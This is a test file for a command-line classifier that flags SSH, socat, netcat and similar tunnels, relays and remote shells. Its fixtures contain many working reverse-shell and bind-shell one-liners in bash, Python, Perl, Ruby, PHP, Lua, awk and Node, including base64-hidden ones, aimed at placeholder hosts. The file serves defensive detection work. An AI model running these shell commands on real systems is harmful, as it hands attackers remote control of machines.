import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  endpointText,
  readTunnel,
  readTunnels,
  readTunnelText,
  type TunnelUse,
} from '../../src/analytics/tunnel-command.ts';

/** "mode [listener] [> far end] [@ server] [$]": what a use amounts to. */
function say(use: TunnelUse | undefined): string {
  if (!use) return '-';
  const { listens } = use;
  const waits = listens && (listens.path ?? `${listens.address ?? ''}:${listens.port ?? ''}`);
  return [
    use.mode,
    waits,
    use.leadsTo && `> ${endpointText(use.leadsTo)}`,
    use.via && `@ ${endpointText(use.via)}`,
    use.runsShell ? '$' : undefined,
  ]
    .filter((part) => part !== undefined)
    .join(' ');
}

/** Words parted by blanks, except inside '...'. */
const split = (line: string): string[] =>
  [...line.matchAll(/'([^']*)'|(\S+)/g)].map((match) => match[1] ?? match[2]);

const WORDS: readonly (readonly [line: string, expected: string])[] = [
  // ssh, in every spelling
  ['ssh -L8080:h:80 b', 'local-forward :8080 > h:80 @ b:22'],
  ['ssh -L 8080:h:80 b', 'local-forward :8080 > h:80 @ b:22'],
  ['/usr/bin/ssh -fNL 8080:h:80 b', 'local-forward :8080 > h:80 @ b:22'],
  ['ssh -NfL8080:h:80 -p 2222 -i key alice@b', 'local-forward :8080 > h:80 @ b:2222'],
  ['ssh b -L 8080:h:80', 'local-forward :8080 > h:80 @ b:22'],
  ['ssh -o LocalForward=8080\u00a0h:80 b', '-'],
  ["ssh -o 'LocalForward=8080 h:80' b", 'local-forward :8080 > h:80 @ b:22'],
  ["ssh -o 'LocalForward 8080 h:80' b", 'local-forward :8080 > h:80 @ b:22'],
  ["ssh '-olocalforward 127.0.0.1:8080 h:80' b", 'local-forward 127.0.0.1:8080 > h:80 @ b:22'],
  ["ssh '-oRemoteForward=9000 localhost:22' b", 'remote-forward :9000 > localhost:22 @ b:22'],
  ["ssh -o 'RemoteForward 9000 [::1]:22' b", 'remote-forward :9000 > [::1]:22 @ b:22'],
  ['ssh -oDynamicForward=1080 b', 'dynamic-forward :1080 @ b:22'],
  ['ssh -D1080 b', 'dynamic-forward :1080 @ b:22'],
  ['ssh -qTfnN -D 0.0.0.0:1080 b', 'dynamic-forward 0.0.0.0:1080 @ b:22'],
  ['ssh -R 2222:localhost:22 203.0.113.5', 'remote-forward :2222 > localhost:22 @ 203.0.113.5:22'],
  ['ssh -NfR 2222:localhost:22 u@203.0.113.5', 'remote-forward :2222 > localhost:22 @ 203.0.113.5:22'],
  ['ssh -R 1080 b', 'remote-forward :1080 @ b:22'],
  ['ssh -R *:1080 b', 'remote-forward *:1080 @ b:22'],
  ['ssh -R [::]:2222:[2001:db8::1]:22 b', 'remote-forward :::2222 > [2001:db8::1]:22 @ b:22'],
  [
    'ssh -L [::1]:8080:[2001:db8::7]:80 2001:db8::9',
    'local-forward ::1:8080 > [2001:db8::7]:80 @ [2001:db8::9]:22',
  ],
  ['ssh -L :8080:h:80 b', 'local-forward *:8080 > h:80 @ b:22'],
  ['ssh -L /tmp/s:h:80 b', 'local-forward /tmp/s > h:80 @ b:22'],
  ['ssh -L 2375:/var/run/docker.sock b', 'local-forward :2375 > /var/run/docker.sock @ b:22'],
  ['ssh -R 8080:/run/app.sock b', 'remote-forward :8080 > /run/app.sock @ b:22'],
  ['ssh -w 0:0 b', 'tun @ b:22'],
  ['ssh -w0:0 b', 'tun @ b:22'],
  ['ssh -o Tunnel=ethernet b', 'tun @ b:22'],
  ['ssh -L 1:h:1 -p443 ssh://u@b:2022', 'local-forward :1 > h:1 @ b:443'],
  ['ssh -L 1:h:1 ssh://u@b:2022', 'local-forward :1 > h:1 @ b:2022'],
  ['ssh -oHostName=203.0.113.8 -L 1:h:1 alias', 'local-forward :1 > h:1 @ 203.0.113.8:22'],
  ['ssh -J bastion h', 'jump > h:22 @ bastion:22'],
  ['ssh -W h:22 bastion', 'jump > h:22 @ bastion:22'],
  ["ssh -o 'ProxyCommand=ssh -W %h:%p bastion' h", 'jump > h:22'],
  ["ssh -o 'ProxyCommand=nc -X connect -x proxy:3128 %h %p' h", 'jump > h:22'],
  ["ssh -o 'ProxyCommand=ssh -D 1080 -W %h:%p bastion' h", 'dynamic-forward :1080 @ bastion:22'],
  ['autossh -M 0 -f -N -R 2222:localhost:22 b', 'remote-forward :2222 > localhost:22 @ b:22'],
  ['dbclient -L 8080:h:80 b', 'local-forward :8080 > h:80 @ b:22'],
  ['plink -batch -ssh -pw x -R 2222:127.0.0.1:22 -P 443 b', 'remote-forward :2222 > 127.0.0.1:22 @ b:443'],
  ['sshuttle -r u@b:2222 10.0.0.0/8', 'tun @ b:2222'],
  ['sudo -u bob ssh -D 1080 b', 'dynamic-forward :1080 @ b:22'],
  ['env -i nohup ssh -D 1080 b', 'dynamic-forward :1080 @ b:22'],
  ['ip netns exec blue ssh -D 1080 b', 'dynamic-forward :1080 @ b:22'],
  ['sshpass -p x ssh -D 1080 b', 'dynamic-forward :1080 @ b:22'],
  // socat
  ['socat TCP-LISTEN:443,fork TCP:203.0.113.1:8443', 'relay :443 > 203.0.113.1:8443'],
  ['socat tcp4-listen:443,reuseaddr,fork,bind=0.0.0.0 tcp4:10.0.0.1:80', 'relay 0.0.0.0:443 > 10.0.0.1:80'],
  ['socat TCP-L:443 TCP:10.0.0.1:80', 'relay :443 > 10.0.0.1:80'],
  [
    'socat -d -d -lf /tmp/log OPENSSL-LISTEN:443,cert=a.pem,verify=0,fork TCP6:[2001:db8::1]:22',
    'relay :443 > [2001:db8::1]:22',
  ],
  ['socat ssl-l:443 UNIX-CONNECT:/run/a', 'relay :443 > /run/a'],
  ['socat UDP4-RECVFROM:53,fork UDP4-SENDTO:203.0.113.1:53', 'relay :53 > 203.0.113.1:53'],
  ['socat TCP:203.0.113.1:80 TCP:10.0.0.1:22', 'relay > 203.0.113.1:80'],
  ['socat TCP-LISTEN:1080,fork SOCKS4A:127.0.0.1:h.example:80,socksport=9050', 'relay :1080 > h.example:80'],
  ['socat TCP-LISTEN:1,fork PROXY:p:203.0.113.1:443,proxyport=3128', 'relay :1 > 203.0.113.1:443'],
  ['socat TCP:203.0.113.1:4444 EXEC:/bin/sh', 'reverse-shell > 203.0.113.1:4444 $'],
  ["socat 'exec:bash -li,pty,stderr,setsid' tcp:203.0.113.1:4444", 'reverse-shell > 203.0.113.1:4444 $'],
  ['socat openssl:203.0.113.1:443,verify=0 SYSTEM:/bin/bash', 'reverse-shell > 203.0.113.1:443 $'],
  ['socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty', 'bind-shell :4444 $'],
  ['socat TCP-LISTEN:13,fork SYSTEM:date', 'relay :13'],
  ['socat TUN:192.0.2.1/24,up TCP:203.0.113.1:443', 'tun > 203.0.113.1:443'],
  ['socat UNIX-LISTEN:/tmp/a,fork TCP:10.0.0.1:3306', 'relay /tmp/a > 10.0.0.1:3306'],
  ['socat UNIX-LISTEN:/tmp/a UNIX-CONNECT:/tmp/b', '-'],
  ['socat -u FILE:/tmp/f TCP:10.0.0.1:99', 'pipe > 10.0.0.1:99'],
  ['socat - UNIX-CONNECT:/run/haproxy.sock', '-'],
  ['socat -V', '-'],
  ['/tmp/kworker tcp-listen:443,fork tcp:203.0.113.1:8443', 'relay :443 > 203.0.113.1:8443'],
  // nc and its variants
  ['nc -e /bin/sh 203.0.113.1 4444', 'reverse-shell > 203.0.113.1:4444 $'],
  ['nc 203.0.113.1 4444 -e /bin/sh', 'reverse-shell > 203.0.113.1:4444 $'],
  ['nc.traditional -c bash 203.0.113.1 4444', 'reverse-shell > 203.0.113.1:4444 $'],
  ['busybox nc 203.0.113.1 4444 -e sh', 'reverse-shell > 203.0.113.1:4444 $'],
  ['ncat --ssl --exec=/bin/bash 203.0.113.1 443', 'reverse-shell > 203.0.113.1:443 $'],
  ["ncat --sh-exec 'bash -i' 203.0.113.1 443", 'reverse-shell > 203.0.113.1:443 $'],
  ['nc -lvnp 4444 -e /bin/bash', 'bind-shell :4444 $'],
  ['ncat -lvkp 4444 -c /bin/sh', 'bind-shell :4444 $'],
  ["ncat -l 80 -k --sh-exec 'ncat 203.0.113.1 443'", 'relay :80 > 203.0.113.1:443'],
  ['ncat -l --broker 8080', 'relay :8080'],
  ['ncat -l 3128 --proxy-type http', 'proxy-server :3128'],
  ['nc -l 4444', 'listener :4444'],
  ['nc -l -p 4444', 'listener :4444'],
  ['nc -w 3 10.0.0.1 80', 'pipe > 10.0.0.1:80'],
  ['nc -X 5 -x proxy:1080 h 22', 'pipe > h:22'],
  ['nc -zv h 80', '-'],
  ['nc -z -w1 h 20-30', '-'],
  ['nc -h', '-'],
  ['ncat --version', '-'],
  ['nc -U /run/a.sock', '-'],
  ['openssl s_client -quiet -connect 203.0.113.1:443', 'pipe > 203.0.113.1:443'],
  ['openssl s_client -connect h:443 -servername h -showcerts', '-'],
  ['openssl s_client -starttls smtp -connect h:25', '-'],
  ['openssl x509 -noout -in a.pem', '-'],
  // programs on the command line
  [
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
    'reverse-shell > 203.0.113.9:4444 $',
  ],
  [
    `python -c 'import socket,subprocess;s=socket.create_connection(("c2.example.net",443));subprocess.call(["sh","-i"],stdin=s)'`,
    'reverse-shell > c2.example.net:443 $',
  ],
  [`python3 -c 'import socket;s=socket.socket();s.connect(("10.0.0.1",5432));print("up")'`, '-'],
  [`python3 -c 'import subprocess;subprocess.run(["sh","-c","ls"])'`, '-'],
  ['python3 -m http.server 8000', '-'],
  [
    `python3 -c 'import socket,subprocess as p;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1);c,a=s.accept();p.Popen(["/bin/sh"],stdin=c)'`,
    'bind-shell :4444 $',
  ],
  [
    `perl -e 'use Socket;$i="203.0.113.9";$p=4242;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");}'`,
    'reverse-shell > 203.0.113.9:4242 $',
  ],
  [
    `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    'reverse-shell > 203.0.113.9:4242 $',
  ],
  [`perl -ne 'print if /connect/'`, '-'],
  [
    `ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'`,
    'reverse-shell > 203.0.113.9:4242 $',
  ],
  [
    `php -r '$s=fsockopen("203.0.113.9",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`,
    'reverse-shell > 203.0.113.9:4242 $',
  ],
  [`php -r 'echo gethostbyname("h");'`, '-'],
  [
    `lua -e 'require("socket");t=socket.tcp();t:connect("203.0.113.9","4242");os.execute("/bin/sh -i <&3 >&3")'`,
    'reverse-shell > 203.0.113.9:4242 $',
  ],
  [
    `gawk 'BEGIN{s="/inet/tcp/0/203.0.113.9/4242";while(1){s|&getline c;while((c|getline)>0)print|&s}}'`,
    'reverse-shell > 203.0.113.9:4242 $',
  ],
  [`awk '{print $1}' /etc/passwd`, '-'],
  [
    `node -e 'c=require("child_process").spawn("/bin/sh");n=require("net").connect(4242,"203.0.113.9",()=>n.pipe(c.stdin))'`,
    'reverse-shell > 203.0.113.9:4242 $',
  ],
  // tunnelling programs, also under other names
  ['chisel client 203.0.113.4:443 R:socks', 'remote-forward @ 203.0.113.4:443'],
  [
    '/tmp/.x/kthreadd client --auth u:p https://203.0.113.4 R:2222:localhost:22',
    'remote-forward @ 203.0.113.4:443',
  ],
  ['chisel client 203.0.113.4:443 8080:h:80', 'local-forward @ 203.0.113.4:443'],
  ['/opt/x server --reverse --port 9001', 'proxy-server :9001'],
  ['/usr/bin/postgres client list', '-'],
  ['gost -L=:1080 -F=relay+tls://203.0.113.4:443', 'dynamic-forward :1080 @ 203.0.113.4:443'],
  ['frpc -c /etc/frpc.toml', 'remote-forward'],
  ['ngrok tcp 22', 'remote-forward > 22'],
  ['cloudflared tunnel --url http://localhost:8080', 'remote-forward > localhost:8080'],
  ['cloudflared tunnel list', '-'],
  ['cloudflared version', '-'],
  ['iodine -f -P x t.example.net', 'tun'],
  ['ptunnel -p 203.0.113.1 -lp 8000 -da 10.0.0.1 -dp 22', 'local-forward :8000 > 10.0.0.1:22 @ 203.0.113.1'],
  ['wstunnel client -R tcp://2222:localhost:22 wss://203.0.113.1:443', 'remote-forward @ 203.0.113.1:443'],
  ['./a -connect 203.0.113.1:11601 -ignore-cert', 'remote-forward @ 203.0.113.1:11601'],
  ['bore local 22 --to bore.example', 'remote-forward @ bore.example'],
  ['rinetd', '-'],
  // packet filters
  [
    'iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination 203.0.113.5:8443',
    'redirect :443 > 203.0.113.5:8443',
  ],
  [
    '/usr/sbin/iptables -t nat -I OUTPUT -p tcp --dport 80 -j DNAT --to-destination 203.0.113.5',
    'redirect :80 > 203.0.113.5:80',
  ],
  ['iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-ports 8080', '-'],
  ['iptables -t nat -D PREROUTING -p tcp --dport 443 -j DNAT --to-destination 203.0.113.5:8443', '-'],
  [
    'nft add rule ip nat prerouting tcp dport 443 dnat to 203.0.113.5:8443',
    'redirect :443 > 203.0.113.5:8443',
  ],
  [
    "nft 'add rule inet nat prerouting tcp dport 443 dnat ip to 203.0.113.5:8443'",
    'redirect :443 > 203.0.113.5:8443',
  ],
  [
    'firewall-cmd --add-forward-port=port=443:proto=tcp:toport=8443:toaddr=203.0.113.5',
    'redirect :443 > 203.0.113.5:8443',
  ],
  ['/lib/systemd/systemd-socket-proxyd 203.0.113.5:443', 'relay > 203.0.113.5:443'],
  // what is none of it
  ['ssh b', '-'],
  ['ssh -p 22 -i key u@b ls -L', '-'],
  ['ssh b -- tar -R x', '-'],
  ['ssh -i L8080:h:80 b', '-'],
  ['ssh -F -L b', '-'],
  ["ssh b 'ssh -L 1:h:1 c'", '-'],
  [
    'ssh -o ControlMaster=auto -o ControlPersist=60s -o ControlPath=/tmp/c -o StrictHostKeyChecking=no -tt h /bin/sh',
    '-',
  ],
  ['ssh -o ClearAllForwardings=yes -L 1:h:1 b', '-'],
  ['ssh -x -oForwardAgent=no -oPermitLocalCommand=no -oClearAllForwardings=yes -s -- h sftp', '-'],
  ['scp -o ProxyJump=b a h:', '-'],
  ['git clone ssh://git@h/x.git', '-'],
  ['ssh -o SendEnv=GIT_PROTOCOL git@h git-upload-pack x', '-'],
  ['rsync -e ssh -R a h:', '-'],
  ['kubectl port-forward pod/a 8080:80', '-'],
  ['grep -R TCP-LISTEN:443 /etc', '-'],
  ['curl -L http://h:8080/socat', '-'],
  ['apt-get install socat ncat', '-'],
  ['man ssh', '-'],
  ['systemctl status ssh', '-'],
];

for (const [line, expected] of WORDS) {
  test(`words: ${line}`.slice(0, 120), () => assert.equal(say(readTunnel(split(line))), expected));
}

const TEXTS: readonly (readonly [text: string, expected: string])[] = [
  ['bash -i >& /dev/tcp/203.0.113.1/443 0>&1', 'reverse-shell > 203.0.113.1:443 $'],
  ["bash -c 'bash -i >& /dev/tcp/203.0.113.1/443 0>&1'", 'reverse-shell > 203.0.113.1:443 $'],
  ['0<&196;exec 196<>/dev/tcp/203.0.113.1/443; sh <&196 >&196 2>&196', 'reverse-shell > 203.0.113.1:443 $'],
  [
    'exec 5<>/dev/tcp/c2.example/443;cat <&5 | while read line; do $line 2>&5 >&5; done',
    'reverse-shell > c2.example:443 $',
  ],
  ['sh -i 5<> /dev/udp/203.0.113.1/53 0<&5 1>&5', 'reverse-shell > 203.0.113.1:53 $'],
  ['until (echo > /dev/tcp/10.0.0.1/5432) 2>/dev/null; do sleep 1; done', '-'],
  ['timeout 1 bash -c "</dev/tcp/10.0.0.1/22" && echo up', '-'],
  [
    'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.1 99 >/tmp/f',
    'reverse-shell > 203.0.113.1:99 $',
  ],
  ['mkfifo f; nc 203.0.113.1 99 < f | sh > f', 'reverse-shell > 203.0.113.1:99 $'],
  ['mkfifo f; nc -l -p 99 < f | sh > f', 'bind-shell :99 $'],
  [
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.1:443 > /tmp/s',
    'reverse-shell > 203.0.113.1:443 $',
  ],
  ['telnet 203.0.113.1 80 | /bin/sh | telnet 203.0.113.1 81', 'reverse-shell > 203.0.113.1:80 $'],
  [
    "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.1 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    'reverse-shell > 203.0.113.1:443 $',
  ],
  ['nohup socat TCP-LISTEN:443,fork TCP:203.0.113.1:22 >/dev/null 2>&1 &', 'relay :443 > 203.0.113.1:22'],
  ['cd /tmp && ./x; ssh -N -R 2222:localhost:22 b &', 'remote-forward :2222 > localhost:22 @ b:22'],
  ['su -c "ssh -D 1080 b" bob', 'dynamic-forward :1080 @ b:22'],
  ["tmux new -d 'ssh -D 1080 b'", 'dynamic-forward :1080 @ b:22'],
  ['screen -dmS x ssh -D 1080 b', 'dynamic-forward :1080 @ b:22'],
  ['X=$(ssh -fND 1080 b)', 'dynamic-forward :1080 @ b:22'],
  ['echo | openssl s_client -connect h:443 2>/dev/null | openssl x509 -noout -dates', 'pipe > h:443'],
  ['tar c . | ssh b tar x', '-'],
  ['curl -s https://h/install | sh', '-'],
  ['echo "socat TCP-LISTEN:1 EXEC:sh"', '-'],
  ['echo stats | nc -w1 10.0.0.1 11211', 'pipe > 10.0.0.1:11211'],
  ['ps aux | grep "ssh -L"', '-'],
];

const base64 = (text: string) => Buffer.from(text).toString('base64');
const HIDDEN: readonly (readonly [text: string, expected: string])[] = [
  [
    `echo ${base64('bash -i >& /dev/tcp/203.0.113.1/443 0>&1')} | base64 -d | bash`,
    'reverse-shell > 203.0.113.1:443 $',
  ],
  ["echo 'nc -e /bin/sh 203.0.113.1 4444' | sh", 'reverse-shell > 203.0.113.1:4444 $'],
  [`echo ${base64('apt-get install -y socat')} | base64 -d | sh`, '-'],
  [
    `python3 -c 'exec(__import__("base64").b64decode("${base64('import socket,pty,os;s=socket.socket();s.connect(("203.0.113.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")')}"))'`,
    'reverse-shell > 203.0.113.1:4444 $',
  ],
];

for (const [text, expected] of [...TEXTS, ...HIDDEN]) {
  test(`text: ${text}`.slice(0, 120), () => assert.equal(say(readTunnelText(text)[0]), expected));
}

test('what the file is counts for more than what it calls itself', () => {
  assert.equal(
    readTunnel(['[kworker/0:1]', '-R', '2222:localhost:22', 'b'], '/usr/bin/ssh')?.mode,
    'remote-forward',
  );
  assert.equal(readTunnel(['nc', 'h', '80', '-e', 'sh'], '/usr/bin/busybox')?.mode, 'reverse-shell');
  assert.equal(readTunnel(['-', 'TCP-LISTEN:443', 'TCP:203.0.113.1:1'], '/usr/bin/socat1')?.mode, 'relay');
  assert.equal(readTunnel(['sh', '-c', 'nc -e sh 203.0.113.1 4444'], '/usr/bin/dash')?.mode, 'reverse-shell');
});

test('all forwards of one command line, the gravest first', () => {
  const uses = readTunnels(split('ssh -L 1:a:1 -R 2:b:2 -D 3 -L 4:c:4 h'));
  assert.deepEqual(
    uses.map(({ mode }) => mode),
    ['remote-forward', 'dynamic-forward', 'local-forward', 'local-forward'],
  );
});

/** Deterministic. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

test('words of any kind never throw', () => {
  const next = random(7);
  const known = [
    ...WORDS.flatMap(([line]) => split(line)),
    ...TEXTS.map(([text]) => text),
    '',
    '-',
    '--',
    '-o',
    '\0',
    '[',
    '"',
    '\u202e',
    '-L',
    '-R:::',
    ':',
    '::',
    '[]:',
  ];
  for (let round = 0; round < 20_000; round++) {
    const words = Array.from({ length: 1 + Math.floor(next() * 8) }, () => {
      const word = known[Math.floor(next() * known.length)];
      const cut = Math.floor(next() * (word.length + 1));
      return next() < 0.3 ? word.slice(cut) + known[Math.floor(next() * known.length)].slice(0, cut) : word;
    });
    readTunnels(words, next() < 0.2 ? known[Math.floor(next() * known.length)] : undefined);
    readTunnelText(words.join(' '));
  }
});

test('long words take no more than their length', () => {
  const units = [
    'a',
    ' ',
    ':',
    '-L',
    '/',
    '!!',
    ',',
    "'",
    '"',
    '$(',
    '`',
    '|sh',
    '\\',
    'nc ',
    'ssh ',
    '/dev/tcp/',
    '0',
    '1.',
    'connect(',
    '(',
    'a=',
    '[',
    '--',
    ';',
    'sh -c "',
    'env ',
    'sudo ',
    '/inet/tcp/0/',
  ];
  for (const unit of units) {
    const timeOf = (length: number) => {
      const long = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
      const lists = [
        ['ssh', '-L', long, long],
        ['socat', long, long],
        ['nc', '-e', long, long],
        ['python', '-c', `connect( ${long}`],
        ['x', 'client', long, long],
        ['sh', '-c', long],
        ['ssh', '-o', `LocalForward ${long}`],
        ['nft', long],
      ];
      const began = process.hrtime.bigint();
      for (const words of lists) readTunnels(words);
      readTunnelText(long);
      return Number(process.hrtime.bigint() - began) / 1e6;
    };
    timeOf(500);
    const took = timeOf(16_000);
    assert.ok(took < 200, `${JSON.stringify(unit)} took ${took} ms`);
  }
});
